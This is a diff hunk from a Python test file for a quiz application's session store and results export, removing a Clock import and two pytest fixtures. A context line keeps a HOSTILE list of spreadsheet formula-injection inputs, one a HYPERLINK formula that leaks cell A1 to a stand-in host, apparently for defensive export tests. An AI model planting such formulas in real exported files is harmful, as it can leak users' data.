@@ -14,19 +14,9 @@ from corpus.errors import QuizError
 from quiz.db import QuizDB
 from quiz.results import export_results
 from quiz.sessions import MAX_NAME_CHARS, SessionStore
-from tests.quiz.session_items import Clock, sample_items
+from tests.quiz.session_items import sample_items
 
 HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
-
-
-@pytest.fixture
-def clock() -> Clock:
-    return Clock()
-
-
-@pytest.fixture
-def store(tmp_path, clock) -> SessionStore:
-    return SessionStore(QuizDB(tmp_path / "quiz.sqlite"), clock=clock)
 
 
 def hand_in_all_right(store, code, name, browser="", unit=""):
